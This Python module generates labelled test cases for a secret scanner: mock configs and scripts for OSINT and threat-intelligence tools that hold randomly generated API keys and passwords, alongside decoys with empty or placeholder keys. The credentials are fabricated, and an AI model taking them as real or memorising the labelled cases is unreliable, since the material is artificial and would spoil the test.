"""Blind set AG: security, threat-intelligence and OSINT tooling repositories.

API clients and configs for Shodan, VirusTotal, Censys, HIBP, SecurityTrails, GreyNoise, AbuseIPDB,
URLScan, Hunter.io, IPinfo, MISP, TheHive/Cortex, OpenCTI, Splunk HEC, Elastic, Wazuh, CrowdStrike,
SentinelOne, Carbon Black, Jira/Slack/PagerDuty alerting, OSINT tool configs (theHarvester,
recon-ng, SpiderFoot, Maltego TRX, subfinder, amass, h8mail), pentest notes and scripts with
credentials found during an engagement, and the decoys such repositories are full of: IOC hashes,
YARA and Sigma rules, Suricata rules, JA3/JARM fingerprints, hex dumps, hashcat example hashes,
wordlists, base64 payloads, default credentials of documented products, certificates and public
keys. Generated fakes only (seeds 270000-274999).
"""
from __future__ import annotations

import base64
import random
import re
import string
import textwrap
from typing import List, Optional

from tests import fakes
from tests.accuracy.labelled import LabelledCase

ALNUM = string.ascii_letters + string.digits
HEX = "0123456789abcdef"
B64 = ALNUM + "+/"
_SEED = [270000]


def _rng() -> random.Random:
    _SEED[0] += 7
    assert _SEED[0] < 275000
    return random.Random(_SEED[0])


def _seed() -> int:
    _SEED[0] += 7
    assert _SEED[0] < 275000
    return _SEED[0]


WORDS = ["Harbor", "Maple", "Falcon", "Cedar", "Orbit", "Granite", "Willow", "Summit", "Lantern", "Copper",
         "Raven", "Tundra", "Beacon", "Quartz", "Osprey", "Juniper", "Marlin", "Cobalt", "Kestrel", "Basalt"]
LOWER = ["river", "candle", "mosaic", "pepper", "glacier", "violet", "anchor", "puzzle", "ember", "saddle",
         "orchid", "walnut", "harvest", "pixel", "trumpet", "lagoon"]


def chars(n: int, alphabet: str = ALNUM) -> str:
    r = _rng()
    return "".join(r.choice(alphabet) for _ in range(n))


def hexs(n: int, upper: bool = False) -> str:
    h = chars(n, HEX)
    return h.upper() if upper else h


def uuid_s(upper: bool = False) -> str:
    h = hexs(32)
    u = f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) % 4]}{h[17:20]}-{h[20:]}"
    return u.upper() if upper else u


def words_pw() -> str:
    r = _rng()
    return r.choice(WORDS) + r.choice("!#$%@*") + r.choice(WORDS) + str(r.randint(10, 9999))


def season_pw() -> str:
    r = _rng()
    return r.choice(["Winter", "Spring", "Summer", "Autumn", "Fall"]) + str(r.randint(2019, 2025)) + r.choice("!#@$")


def human_pw() -> str:
    r = _rng()
    w = r.choice(WORDS)
    forms = [w + str(r.randint(1, 99)) + r.choice("!@#"), w.lower() + "_" + r.choice(LOWER) + str(r.randint(100, 999)),
             "P@ss" + w + str(r.randint(1, 9999)), w[0] + w[1:].replace("a", "@").replace("o", "0") + str(r.randint(10, 99)) + "!"]
    return r.choice(forms)


def passphrase() -> str:
    r = _rng()
    return "-".join(r.sample(LOWER, 4)) + str(r.randint(1, 99))


def rand_pw(n: int = 20, extra: str = "") -> str:
    return chars(n, ALNUM + extra)


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# Theme services, in the shapes their documentation shows.
def shodan_key() -> str:
    return chars(32)


def vt_key() -> str:
    return hexs(64)


def otx_key() -> str:
    return hexs(64)


def hibp_key() -> str:
    return hexs(32)


def abuseipdb_key() -> str:
    return hexs(80)


def hunter_key() -> str:
    return hexs(40)


def ipinfo_token() -> str:
    return hexs(14)


def st_key() -> str:
    return chars(32)


def gn_key() -> str:
    return chars(64)


def censys_secret() -> str:
    return chars(32)


def misp_key() -> str:
    return chars(40)


def thehive_key() -> str:
    return chars(32, B64)


def elastic_api_key() -> str:
    return b64(chars(20, ALNUM + "-_") + ":" + chars(22, ALNUM + "-_"))


def atlassian_token() -> str:
    return "ATATT3xFfGF0" + chars(180, ALNUM + "-_") + "=" + hexs(8, upper=True)


def slack_bot() -> str:
    r = _rng()
    return f"xoxb-{r.randint(10**10, 10**11)}-{r.randint(10**12, 10**13)}-" + "".join(r.choice(ALNUM) for _ in range(24))


def slack_webhook() -> str:
    up = string.ascii_uppercase + string.digits
    return "https://hooks.slack.com/services/T" + chars(8, up) + "/B" + chars(10, up) + "/" + chars(24)


def discord_webhook() -> str:
    r = _rng()
    return f"https://discord.com/api/webhooks/{r.randint(10**17, 10**18)}/" + chars(68, ALNUM + "-_")


def teams_webhook() -> str:
    return (f"https://contoso.webhook.office.com/webhookb2/{uuid_s()}@{uuid_s()}/IncomingWebhook/"
            f"{hexs(32)}/{uuid_s()}")


def azure_secret() -> str:
    return chars(3) + "8Q~" + chars(34, ALNUM + "_.-~")


def pem(kind: str = "RSA") -> str:
    return fakes.fake_pem(_seed(), kind)


def cert_pem() -> str:
    r = _rng()
    body = "MIID" + "".join(r.choice(B64) for _ in range(60))
    lines = [body] + ["".join(r.choice(B64) for _ in range(64)) for _ in range(12)] + ["".join(r.choice(B64) for _ in range(20)) + "=="]
    return "-----BEGIN CERTIFICATE-----\n" + "\n".join(lines) + "\n-----END CERTIFICATE-----"


def ssh_pub(comment: str) -> str:
    return "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + chars(43, B64) + " " + comment


def bcrypt_hash() -> str:
    return "$2b$12$" + chars(53, ALNUM + "./")


def vault_blob(lines: int = 5) -> str:
    return "$ANSIBLE_VAULT;1.1;AES256\n" + "\n".join(hexs(80) for _ in range(lines)) + "\n" + hexs(34)


def sops(n: int) -> str:
    return f"ENC[AES256_GCM,data:{chars(n, B64)}=,iv:{chars(43, B64)}=,tag:{chars(22, B64)}==,type:str]"


def md5() -> str:
    return hexs(32)


def sha1() -> str:
    return hexs(40)


def sha256() -> str:
    return hexs(64)


def indent(text: str, n: int) -> str:
    return textwrap.indent(text, " " * n)


_HOLE = re.compile(r"<<[A-Z0-9_]+>>")


def T(text: str, **values: str) -> str:
    """A dedented file; <<NAME>> holes take the values (no brace escaping in YAML/JSON texts)."""
    out = textwrap.dedent(text)
    if out.startswith("\n"):
        out = out[1:]
    for name, value in values.items():
        out = out.replace(f"<<{name}>>", value)
    assert not _HOLE.search(out), _HOLE.search(out)
    return out


def crlf(text: str) -> str:
    return text.replace("\n", "\r\n")


CASES: List[LabelledCase] = []


def S(fmt: str, kind: str, name: str, text: str, secret: str, source: str) -> None:
    CASES.append(LabelledCase(f"blind-ag/{fmt}/{kind}", name, text, secret, source))


def D(fmt: str, what: str, name: str, text: str, source: str) -> None:
    CASES.append(LabelledCase(f"blind-ag/{fmt}/decoy-{what}", name, text, None, source))


def SV(fmt: str, kind: str, name: str, template: str, secret: str, source: str, **values: str) -> None:
    """A secret case whose template holds the secret as <<S>>."""
    S(fmt, kind, name, T(template, S=secret, **values), secret, source)


def DV(fmt: str, what: str, name: str, template: str, source: str, **values: str) -> None:
    D(fmt, what, name, T(template, **values), source)


# ---------------------------------------------------------------- OSINT tool configs
_HARVESTER = """\
    apikeys:
      bevigil:
        key:

      binaryedge:
        key:

      bing:
        key:

      censys:
        id:
        secret:

      fullhunt:
        key:

      github:
        key:

      hunter:
        key: <<HUNTER>>

      securityTrails:
        key:

      shodan:
        key: <<SHODAN>>

      virustotal:
        key:
    """
_k = shodan_key()
S("harvester-yaml", "shodan", "theHarvester/api-keys.yaml", T(_HARVESTER, SHODAN=_k, HUNTER=""), _k,
  "laramies/theHarvester api-keys.yaml")
_k = hunter_key()
S("harvester-yaml", "hunter", "home/analyst/.theHarvester/api-keys.yaml", T(_HARVESTER, SHODAN="", HUNTER=_k), _k,
  "laramies/theHarvester api-keys.yaml")
DV("harvester-yaml", "empty", "etc/theHarvester/api-keys.yaml", _HARVESTER,
   "laramies/theHarvester api-keys.yaml as shipped", HUNTER="", SHODAN="")

SV("recon-ng-rc", "shodan", "recon/acme-external.rc", """\
    # recon-ng resource file - ACME external recon, kickoff 2024-03-11
    workspaces create acme_ext
    db insert domains acme-corp.com~acme external
    keys add shodan_api <<S>>
    marketplace install recon/domains-hosts/hackertarget
    marketplace install recon/hosts-ports/shodan_ip
    modules load recon/domains-hosts/hackertarget
    run
    modules load recon/hosts-ports/shodan_ip
    run
    """, shodan_key(), "recon-ng wiki: resource files and the keys command")
SV("recon-ng-rc", "ipinfo", "recon/passive.rc", """\
    workspaces load passive_q2
    keys add ipinfo_api <<S>>
    keys add bing_api
    modules load recon/hosts-hosts/ipinfodb
    options set SOURCE query select ip_address from hosts where ip_address is not null
    run
    modules load reporting/csv
    options set FILENAME /tmp/passive_q2_hosts.csv
    run
    """, ipinfo_token(), "recon-ng wiki: keys add")
DV("recon-ng-rc", "placeholder", "docs/recon-ng-quickstart.md", """\
    # recon-ng quick start

    Add the keys you have before loading modules that need them:

    ```
    [recon-ng][default] > keys add shodan_api <your shodan key>
    [recon-ng][default] > keys add github_api <your github token>
    [recon-ng][default] > keys list
    ```

    Keys are stored in `~/.recon-ng/keys.db`; never paste them in this repo.
    """, "recon-ng wiki: Getting Started")

SV("spiderfoot-cfg", "virustotal", "spiderfoot/exported-settings.cfg", """\
    _debug=0
    _maxthreads=3
    _useragent=Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/119.0
    _dnsserver=
    _fetchtimeout=5
    sfp_shodan:api_key=
    sfp_virustotal:api_key=<<S>>
    sfp_virustotal:verify=1
    sfp_virustotal:publicapi=1
    sfp_greynoise:api_key=
    sfp_tool_nmap:nmappath=/usr/bin/nmap
    """, vt_key(), "SpiderFoot settings export (Settings > Export)")
SV("spiderfoot-cfg", "greynoise", "osint/sf-settings-team.cfg", """\
    _debug=0
    _maxthreads=5
    sfp_abuseipdb:api_key=
    sfp_greynoise:api_key=<<S>>
    sfp_greynoise:age_limit_days=30
    sfp_hunter:api_key=
    sfp_ipinfo:api_key=
    """, gn_key(), "SpiderFoot settings export")
DV("spiderfoot-cfg", "empty", "spiderfoot/defaults.cfg", """\
    _debug=0
    _maxthreads=3
    _fetchtimeout=5
    _socks1type=
    sfp_shodan:api_key=
    sfp_virustotal:api_key=
    sfp_virustotal:publicapi=1
    sfp_tool_nmap:nmappath=/usr/bin/nmap
    sfp_tool_whatweb:whatweb_path=/opt/WhatWeb/whatweb
    """, "SpiderFoot settings export with no keys")

SV("maltego-trx", "greynoise", "transforms/GreyNoiseLookup.py", """\
    from maltego_trx.entities import Phrase
    from maltego_trx.maltego import MaltegoMsg, MaltegoTransform
    from maltego_trx.transform import DiscoverableTransform
    import requests

    GREYNOISE_API_KEY = "<<S>>"


    class GreyNoiseLookup(DiscoverableTransform):
        \"\"\"IPv4Address -> GreyNoise classification.\"\"\"

        @classmethod
        def create_entities(cls, request: MaltegoMsg, response: MaltegoTransform):
            ip = request.Value
            r = requests.get(f"https://api.greynoise.io/v3/community/{ip}",
                             headers={"key": GREYNOISE_API_KEY}, timeout=10)
            data = r.json()
            response.addEntity(Phrase, data.get("classification", "unknown"))
    """, gn_key(), "paterva/maltego-trx README: DiscoverableTransform")
DV("maltego-trx", "env", "transforms/ShodanHost.py", """\
    import os

    import shodan
    from maltego_trx.entities import Port
    from maltego_trx.transform import DiscoverableTransform

    API = shodan.Shodan(os.environ["SHODAN_API_KEY"])


    class ShodanHost(DiscoverableTransform):
        @classmethod
        def create_entities(cls, request, response):
            host = API.host(request.Value)
            for port in host.get("ports", []):
                response.addEntity(Port, str(port))
    """, "paterva/maltego-trx README")

SV("subfinder-yaml", "securitytrails", "recon/.config/subfinder/provider-config.yaml", """\
    binaryedge: []
    bufferover: []
    censys: []
    certspotter: []
    chaos: []
    github: []
    securitytrails:
      - <<S>>
    shodan: []
    virustotal: []
    """, st_key(), "projectdiscovery/subfinder: provider-config.yaml")
_cid = uuid_s()
_csec = censys_secret()
SV("subfinder-yaml", "censys", "dotfiles/subfinder/provider-config.yaml", """\
    # subfinder providers (synced by dotfiles/install.sh)
    censys:
      - <<ID>>:<<S>>
    hunter: []
    intelx: []
    passivetotal: []
    shodan: []
    """, _csec, "projectdiscovery/subfinder: provider-config.yaml (censys id:secret)", ID=_cid)
DV("subfinder-yaml", "empty", "recon/provider-config.example.yaml", """\
    # copy to ~/.config/subfinder/provider-config.yaml and fill in
    binaryedge: []
    censys: []              # - API_ID:API_SECRET
    securitytrails: []      # - API_KEY
    shodan: []              # - API_KEY
    virustotal: []          # - API_KEY
    """, "projectdiscovery/subfinder docs")

SV("amass-yaml", "otx", "amass/datasources.yaml", """\
    datasources:
      - name: AlienVault
        creds:
          account:
            apikey: <<S>>
      - name: BinaryEdge
        ttl: 10080
        creds:
          account:
            apikey:
      - name: Censys
        ttl: 10080
        creds:
          account:
            apikey:
            secret:
    global_options:
      minimum_ttl: 1440
    """, otx_key(), "owasp-amass/amass examples/datasources.yaml")
DV("amass-ini", "empty", "amass/config.ini", """\
    # https://github.com/owasp-amass/amass/blob/master/examples/config.ini
    [scope]
    port = 80
    port = 443
    port = 8443

    [data_sources]
    minimum_ttl = 1440

    [data_sources.Shodan]
    [data_sources.Shodan.Credentials]
    apikey =

    [data_sources.SecurityTrails]
    [data_sources.SecurityTrails.Credentials]
    apikey =
    """, "owasp-amass/amass examples/config.ini")

SV("shell", "shodan", "dotfiles/install.sh", """\
    #!/usr/bin/env bash
    set -euo pipefail
    # analyst workstation bootstrap
    pipx install shodan
    pipx install censys
    shodan init <<S>>
    mkdir -p ~/.config/subfinder
    cp -n subfinder/provider-config.yaml ~/.config/subfinder/
    echo "done"
    """, shodan_key(), "Shodan CLI docs: shodan init")
SV("toml", "virustotal", "home/jlee/.vt.toml", """\
    # vt-cli configuration (vt init)
    apikey="<<S>>"
    format="yaml"
    proxy=""
    include=["last_analysis_stats", "meaningful_name", "type_description"]
    exclude=[]
    """, vt_key(), "VirusTotal/vt-cli README: vt init writes ~/.vt.toml")
SV("ini", "censys", "home/analyst/.config/censys/censys.cfg", """\
    [DEFAULT]
    api_id = <<ID>>
    api_secret = <<S>>
    asm_api_key =
    color = auto
    """, censys_secret(), "censys/censys-python: censys config", ID=uuid_s())
SV("ini", "greynoise", "home/analyst/.config/greynoise/config", """\
    [greynoise]
    api_key = <<S>>
    api_server = https://api.greynoise.io
    timeout = 60
    offering = enterprise
    """, gn_key(), "GreyNoise-Intelligence/pygreynoise: greynoise setup")
SV("json", "ipinfo", "home/analyst/.config/ipinfo/config.json", """\
    {
      "cache_enabled": true,
      "token": "<<S>>",
      "open_browser": true
    }
    """, ipinfo_token(), "ipinfo/cli: ipinfo init")
SV("ini", "hibp", "tools/h8mail/h8mail_config.ini", """\
    [h8mail]
    ; h8mail -c h8mail_config.ini -t targets.txt
    hibp = <<S>>
    hunterio =
    snusbase_token =
    leak-lookup_priv =
    leak-lookup_pub =
    """, hibp_key(), "khast3x/h8mail: h8mail_config.ini")
DV("ini", "empty", "tools/h8mail/h8mail_config.ini.example", """\
    [h8mail]
    ; Uncomment and fill the keys you have
    ;hibp =
    ;hunterio =
    ;snusbase_token =
    ;emailrep =
    ;intelx_key =
    """, "khast3x/h8mail: h8mail --gen-config")
# ---------------------------------------------------------------- enrichment scripts
SV("python", "virustotal", "enrichment/vt_lookup.py", """\
    #!/usr/bin/env python3
    \"\"\"Look up file hashes from the triage queue on VirusTotal (v3 API).\"\"\"
    import sys
    import time

    import requests

    VT_API_KEY = '<<S>>'
    VT_URL = "https://www.virustotal.com/api/v3/files/{}"


    def lookup(sha256: str) -> dict:
        r = requests.get(VT_URL.format(sha256), headers={"x-apikey": VT_API_KEY}, timeout=30)
        if r.status_code == 404:
            return {}
        r.raise_for_status()
        return r.json()["data"]["attributes"]["last_analysis_stats"]


    if __name__ == "__main__":
        for line in open(sys.argv[1]):
            print(line.strip(), lookup(line.strip()))
            time.sleep(15)  # public API: 4 requests/minute
    """, vt_key(), "VirusTotal API v3 docs: x-apikey header")
DV("python", "env", "enrichment/vt_client.py", """\
    import os

    import vt

    # export VT_API_KEY before running; CI reads it from the vault-backed secret store
    client = vt.Client(os.environ["VT_API_KEY"])


    def file_report(sha256: str):
        obj = client.get_object(f"/files/{sha256}")
        return obj.last_analysis_stats


    def close():
        client.close()
    """, "VirusTotal/vt-py README")
SV("python", "abuseipdb", "soc/scripts/abuseipdb_check.py", """\
    import json
    import requests

    url = 'https://api.abuseipdb.com/api/v2/check'
    headers = {
        'Accept': 'application/json',
        'Key': '<<S>>'
    }


    def check(ip, days=90):
        querystring = {'ipAddress': ip, 'maxAgeInDays': str(days)}
        response = requests.request(method='GET', url=url, headers=headers, params=querystring)
        decoded = json.loads(response.text)
        return decoded["data"]["abuseConfidenceScore"]
    """, abuseipdb_key(), "AbuseIPDB APIv2 docs: CHECK endpoint Python example")
SV("python", "urlscan", "phishing/urlscan_submit.py", """\
    import requests

    URLSCAN_KEY = "<<S>>"


    def submit(url: str, visibility: str = "unlisted") -> str:
        headers = {"API-Key": URLSCAN_KEY, "Content-Type": "application/json"}
        data = {"url": url, "visibility": visibility, "tags": ["phish-triage"]}
        r = requests.post("https://urlscan.io/api/v1/scan/", headers=headers, json=data, timeout=20)
        r.raise_for_status()
        return r.json()["result"]
    """, uuid_s(), "urlscan.io API docs: Submission API (API-Key header)")
SV("python", "hibp", "identity/breach_watch.py", """\
    \"\"\"Nightly check of staff mailboxes against Have I Been Pwned.\"\"\"
    import time
    import requests

    HIBP_HEADERS = {
        "hibp-api-key": "<<S>>",
        "user-agent": "corp-secops-breach-watch",
    }


    def breaches(account):
        r = requests.get(f"https://haveibeenpwned.com/api/v3/breachedaccount/{account}",
                         headers=HIBP_HEADERS, params={"truncateResponse": "false"})
        time.sleep(6)
        return [] if r.status_code == 404 else r.json()
    """, hibp_key(), "haveibeenpwned.com API v3 docs: hibp-api-key header")
SV("python", "hunter", "osint/email_enum.py", """\
    import argparse
    import requests

    HUNTER_API = "https://api.hunter.io/v2/domain-search"
    api_key = "<<S>>"

    p = argparse.ArgumentParser()
    p.add_argument("domain")
    args = p.parse_args()

    res = requests.get(HUNTER_API, params={"domain": args.domain, "api_key": api_key, "limit": 100})
    for e in res.json()["data"]["emails"]:
        print(e["value"], e.get("position") or "")
    """, hunter_key(), "Hunter.io API v2 docs: Domain Search")
_sk = shodan_key()
S("python", "shodan", "monitor/shodan_watch.py", T("""\
    import shodan

    # split so the pre-commit grep for 32-char strings doesn't fire (yes, really)
    SHODAN_KEY = ("<<A>>"
                  "<<B>>")

    api = shodan.Shodan(SHODAN_KEY)
    NETBLOCKS = ["203.0.113.0/24", "198.51.100.0/24"]

    for net in NETBLOCKS:
        for banner in api.search_cursor(f"net:{net}"):
            print(banner["ip_str"], banner["port"], banner.get("product", ""))
    """, A=_sk[:16], B=_sk[16:]), _sk, "shodan-python docs: Shodan(API_KEY), search_cursor")
DV("python", "placeholder", "examples/shodan_basic.py", """\
    import shodan

    SHODAN_API_KEY = "YOUR_API_KEY"

    api = shodan.Shodan(SHODAN_API_KEY)

    try:
        results = api.search('apache')
        print('Results found: {}'.format(results['total']))
        for result in results['matches']:
            print('IP: {}'.format(result['ip_str']))
    except shodan.APIError as e:
        print('Error: {}'.format(e))
    """, "shodan-python docs: Getting Started example")
SV("makefile", "virustotal", "Makefile", """\
    VT_KEY := <<S>>
    SAMPLES := $(wildcard samples/*.bin)

    .PHONY: hashes report clean

    hashes:
    \tsha256sum $(SAMPLES) > hashes.txt

    report: hashes
    \twhile read h f; do \\
    \t  curl -s -H "x-apikey: $(VT_KEY)" https://www.virustotal.com/api/v3/files/$$h | jq .data.attributes.last_analysis_stats; \\
    \tdone < hashes.txt

    clean:
    \trm -f hashes.txt
    """, vt_key(), "GNU make manual; VirusTotal API v3")
DV("makefile", "secret-manager", "triage/Makefile", """\
    VT_KEY ?= $(shell pass show soc/virustotal/apikey)
    OTX_KEY ?= $(shell op read "op://SOC/AlienVault OTX/credential")

    enrich:
    \tpython3 enrich.py --vt-key "$(VT_KEY)" --otx-key "$(OTX_KEY)" iocs.csv

    lint:
    \truff check .
    """, "pass(1) and 1Password CLI op read docs")
SV("python", "censys", "attack-surface/censys_hosts.py", """\
    from censys.search import CensysHosts

    h = CensysHosts(
        api_id="<<ID>>",
        api_secret="<<S>>",
    )

    query = h.search("services.tls.certificates.leaf_data.subject.organization: \\"Acme Corp\\"", per_page=100, pages=3)
    for page in query:
        for host in page:
            print(host["ip"], [s["port"] for s in host["services"]])
    """, censys_secret(), "censys-python docs: CensysHosts", ID=uuid_s())
SV("python", "otx", "feeds/otx_pull.py", """\
    from datetime import datetime, timedelta

    from OTXv2 import OTXv2, IndicatorTypes

    otx = OTXv2("<<S>>")
    since = (datetime.utcnow() - timedelta(days=1)).isoformat()

    pulses = otx.getsince(since)
    for pulse in pulses:
        for ind in pulse["indicators"]:
            if ind["type"] in ("FileHash-SHA256", "domain", "IPv4"):
                print(ind["type"], ind["indicator"], pulse["name"])
    """, otx_key(), "AlienVault-OTX/OTX-Python-SDK README")
SV("go", "securitytrails", "cmd/subs/main.go", """\
    package main

    import (
    \t"encoding/json"
    \t"fmt"
    \t"net/http"
    \t"os"
    )

    const stAPIKey = "<<S>>"

    func main() {
    \tdomain := os.Args[1]
    \treq, _ := http.NewRequest("GET", "https://api.securitytrails.com/v1/domain/"+domain+"/subdomains", nil)
    \treq.Header.Set("APIKEY", stAPIKey)
    \tresp, err := http.DefaultClient.Do(req)
    \tif err != nil {
    \t\tpanic(err)
    \t}
    \tdefer resp.Body.Close()
    \tvar out struct{ Subdomains []string `json:"subdomains"` }
    \tjson.NewDecoder(resp.Body).Decode(&out)
    \tfor _, s := range out.Subdomains {
    \t\tfmt.Printf("%s.%s\\n", s, domain)
    \t}
    }
    """, st_key(), "SecurityTrails API docs: APIKEY header")
SV("javascript", "greynoise", "extension/src/greynoise.js", """\
    // Browser extension: right-click an IP -> GreyNoise context
    const GN_KEY = '<<S>>';

    export async function context(ip) {
      const res = await fetch(`https://api.greynoise.io/v2/noise/context/${ip}`, {
        headers: { key: GN_KEY, Accept: 'application/json' },
      });
      if (!res.ok) throw new Error(`greynoise ${res.status}`);
      return res.json();
    }
    """, gn_key(), "GreyNoise API docs: key header")
SV("typescript", "urlscan", "src/lib/urlscan.ts", """\
    import axios from "axios";

    const client = axios.create({
      baseURL: "https://urlscan.io/api/v1",
      headers: { "API-Key": "<<S>>" },
      timeout: 15000,
    });

    export async function search(q: string) {
      const { data } = await client.get("/search/", { params: { q, size: 100 } });
      return data.results as Array<{ task: { url: string }; page: { domain: string } }>;
    }
    """, uuid_s(), "urlscan.io API docs: Search API")
SV("rust", "ipinfo", "src/enrich.rs", """\
    use serde::Deserialize;

    const IPINFO_TOKEN: &str = "<<S>>";

    #[derive(Debug, Deserialize)]
    pub struct IpInfo {
        pub ip: String,
        pub org: Option<String>,
        pub country: Option<String>,
    }

    pub async fn lookup(ip: &str) -> reqwest::Result<IpInfo> {
        let url = format!("https://ipinfo.io/{ip}?token={IPINFO_TOKEN}");
        reqwest::get(url).await?.json().await
    }
    """, ipinfo_token(), "ipinfo.io developers docs: token query parameter")
SV("ruby", "shodan", "lib/exposure_check.rb", """\
    require 'net/http'
    require 'json'

    module ExposureCheck
      SHODAN_KEY = '<<S>>'.freeze

      def self.host(ip)
        uri = URI("https://api.shodan.io/shodan/host/#{ip}?key=#{SHODAN_KEY}")
        JSON.parse(Net::HTTP.get(uri))
      end
    end

    puts ExposureCheck.host(ARGV[0]).fetch('ports', []).inspect if $PROGRAM_NAME == __FILE__
    """, shodan_key(), "Shodan REST API docs: /shodan/host/{ip}?key=")
_k = vt_key()
S("csharp", "virustotal", "src/Triage/VirusTotalClient.cs", crlf(T("""\
    using System.Net.Http;
    using System.Threading.Tasks;

    namespace Triage
    {
        public class VirusTotalClient
        {
            private const string ApiKey = "<<S>>";
            private static readonly HttpClient Http = new HttpClient();

            public async Task<string> GetFileReportAsync(string sha256)
            {
                var req = new HttpRequestMessage(HttpMethod.Get, $"https://www.virustotal.com/api/v3/files/{sha256}");
                req.Headers.Add("x-apikey", ApiKey);
                var resp = await Http.SendAsync(req);
                return await resp.Content.ReadAsStringAsync();
            }
        }
    }
    """, S=_k)), _k, "VirusTotal API v3 docs")
SV("powershell", "abuseipdb", "scripts/Report-AbuseIPDB.ps1", """\
    param(
        [Parameter(Mandatory)] [string] $IpAddress,
        [string] $Comment = "Brute force against VPN portal"
    )
    $headers = @{ Key = '<<S>>'; Accept = 'application/json' }
    $body = @{ ip = $IpAddress; categories = '18,22'; comment = $Comment }
    Invoke-RestMethod -Uri 'https://api.abuseipdb.com/api/v2/report' -Method Post -Headers $headers -Body $body
    """, abuseipdb_key(), "AbuseIPDB APIv2 docs: REPORT endpoint")
SV("shell", "securitytrails", "scripts/dns_history.sh", """\
    #!/bin/sh
    # usage: dns_history.sh example.com
    DOMAIN="$1"
    curl -s --request GET \\
      --url "https://api.securitytrails.com/v1/history/${DOMAIN}/dns/a" \\
      --header 'accept: application/json' \\
      --header 'APIKEY: <<S>>' | jq -r '.records[].values[].ip'
    """, st_key(), "SecurityTrails API docs: DNS history (curl)")
SV("http", "virustotal", "requests/vt.http", """\
    ### File report
    GET https://www.virustotal.com/api/v3/files/44d88612fea8a8f36de82e1278abb02f
    x-apikey: <<S>>
    Accept: application/json

    ### Domain
    GET https://www.virustotal.com/api/v3/domains/example.org
    x-apikey: <<S>>
    """, vt_key(), "JetBrains HTTP Client / VS Code REST Client .http format")
SV("postman-json", "abuseipdb", "postman/ti-apis.postman_environment.json", """\
    {
      "id": "<<ID>>",
      "name": "TI APIs",
      "values": [
        { "key": "abuseipdb_key", "value": "<<S>>", "type": "secret", "enabled": true },
        { "key": "vt_key", "value": "", "type": "secret", "enabled": true },
        { "key": "base_url", "value": "https://api.abuseipdb.com/api/v2", "type": "default", "enabled": true }
      ],
      "_postman_variable_scope": "environment"
    }
    """, abuseipdb_key(), "Postman environment export format", ID=uuid_s())
SV("netrc", "misp", "home/soc/.netrc", """\
    machine misp.corp.internal
    login automation@corp.example
    password <<S>>

    machine github.com
    login soc-bot
    password ${GITHUB_TOKEN}
    """, human_pw(), "GNU inetutils .netrc format")
SV("notebook", "ipinfo", "hunting/asn-pivot.ipynb", """\
    {
     "cells": [
      {
       "cell_type": "code",
       "execution_count": 3,
       "metadata": {},
       "outputs": [
        {
         "name": "stdout",
         "output_type": "stream",
         "text": [
          "Handler(access_token='<<S>>', cache=LRU(4096))\\n"
         ]
        }
       ],
       "source": [
        "import ipinfo, os\\n",
        "handler = ipinfo.getHandler(os.getenv('IPINFO_TOKEN'))\\n",
        "print(handler)"
       ]
      }
     ],
     "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
     "nbformat": 4,
     "nbformat_minor": 5
    }
    """, ipinfo_token(), "Jupyter nbformat 4; ipinfo/python getHandler")
SV("notebook", "greynoise", "hunting/scanner-noise.ipynb", """\
    {
     "cells": [
      {
       "cell_type": "code",
       "execution_count": 1,
       "metadata": {},
       "outputs": [],
       "source": [
        "from greynoise import GreyNoise\\n",
        "session = GreyNoise(api_key=\\"<<S>>\\", integration_name=\\"hunting-nb\\")\\n",
        "session.ip(\\"198.51.100.23\\")"
       ]
      }
     ],
     "metadata": {},
     "nbformat": 4,
     "nbformat_minor": 5
    }
    """, gn_key(), "Jupyter nbformat 4; pygreynoise README")
DV("notebook", "getpass", "hunting/vt-pivot.ipynb", """\
    {
     "cells": [
      {
       "cell_type": "code",
       "execution_count": 2,
       "metadata": {},
       "outputs": [
        {"name": "stdout", "output_type": "stream", "text": ["VT key: ········\\n"]}
       ],
       "source": [
        "from getpass import getpass\\n",
        "VT_KEY = getpass('VT key: ')"
       ]
      }
     ],
     "metadata": {},
     "nbformat": 4,
     "nbformat_minor": 5
    }
    """, "Jupyter nbformat 4; Python getpass")
# ---------------------------------------------------------------- MISP, TheHive, Cortex, OpenCTI
SV("python", "misp", "misp-sync/keys.py", """\
    #!/usr/bin/env python
    # -*- coding: utf-8 -*-

    misp_url = 'https://misp.soc.corp.internal'
    misp_key = '<<S>>'  # The MISP auth key can be found on the MISP web interface under the automation section
    misp_verifycert = True
    misp_client_cert = ''
    proofpoint_sp = ''
    """, misp_key(), "MISP/PyMISP examples/keys.py.sample")
DV("python", "placeholder", "misp-sync/keys.py.sample", """\
    #!/usr/bin/env python
    # -*- coding: utf-8 -*-

    misp_url = 'https://<your MISP URL>/'
    misp_key = 'Your MISP auth key' # The MISP auth key can be found on the MISP web interface under the automation section
    misp_verifycert = True
    misp_client_cert = ''
    """, "MISP/PyMISP examples/keys.py.sample")
SV("php", "database", "misp/app/Config/database.php", """\
    <?php
    class DATABASE_CONFIG {
        public $default = array(
            'datasource' => 'Database/Mysql',
            //'datasource' => 'Database/Postgres',
            'persistent' => false,
            'host' => 'db',
            'login' => 'misp',
            'port' => 3306,
            'password' => '<<S>>',
            'database' => 'misp',
            'prefix' => '',
            'encoding' => 'utf8',
        );
    }
    """, words_pw(), "MISP app/Config/database.default.php")
SV("dotenv", "mysql", "misp-docker/.env", """\
    # MISP docker environment
    BASE_URL=https://misp.corp.internal
    ADMIN_EMAIL=soc-admin@corp.example
    ADMIN_ORG=CORP-SOC
    ADMIN_KEY=
    ADMIN_PASSWORD=
    MYSQL_HOST=db
    MYSQL_USER=misp
    MYSQL_PASSWORD=<<S>>
    MYSQL_DATABASE=misp
    REDIS_FQDN=redis
    """, season_pw(), "MISP/misp-docker template.env")
SV("python", "thehive", "soar/create_alert.py", """\
    from thehive4py.api import TheHiveApi
    from thehive4py.models import Alert, AlertArtifact

    api = TheHiveApi('https://thehive.soc.corp.internal', '<<S>>')


    def raise_alert(title, ip, source_ref):
        artifacts = [AlertArtifact(dataType='ip', data=ip)]
        alert = Alert(title=title, tlp=2, tags=['suricata'], description='Auto-raised from IDS',
                      type='external', source='suricata', sourceRef=source_ref, artifacts=artifacts)
        return api.create_alert(alert)
    """, thehive_key(), "TheHive-Project/TheHive4py README (1.x API)")
